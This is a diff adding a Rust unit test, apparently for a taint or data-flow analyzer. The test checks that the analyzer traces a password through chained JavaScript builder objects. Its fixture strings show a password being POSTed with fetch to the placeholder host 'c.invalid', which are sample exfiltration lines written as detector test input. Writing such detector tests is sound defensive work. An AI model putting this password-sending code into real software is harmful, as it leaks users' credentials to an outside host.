@@ -58,3 +58,26 @@ exports.open = (password) => {{ const k = new K(); k.add(password); k.send(); }}
         assert!(found.iter().any(|flow| flow == WANTED), "{found:?}\n{text}");
     }
 }
+
+#[test]
+fn a_method_that_gives_its_object_loses_nothing() {
+    const SENDERS: [&str; 3] = [
+        "fetch('https://c.invalid/p', { method: 'POST', body: new K().add(password).text() });",
+        "const k = new K().add('x'); k.add(password); fetch('https://c.invalid/p', { method: 'POST', body: `${k}` });",
+        "const k = new K().add(password); new Post().send(k);",
+    ];
+    for sender in SENDERS {
+        let text = format!(
+            "class K {{
+  constructor() {{ this.rows = []; }}
+  add(v) {{ this.rows.push(v); return this; }}
+  text() {{ return this.rows.join(); }}
+  toString() {{ return this.rows.join(); }}
+}}
+class Post {{ send(k) {{ fetch('https://c.invalid/p', {{ method: 'POST', body: `${{k}}` }}); }} }}
+exports.open = (password) => {{ {sender} }};"
+        );
+        let found = flows(&[("i.js", &text)]);
+        assert!(found.iter().any(|flow| flow == WANTED), "{found:?}\n{text}");
+    }
+}
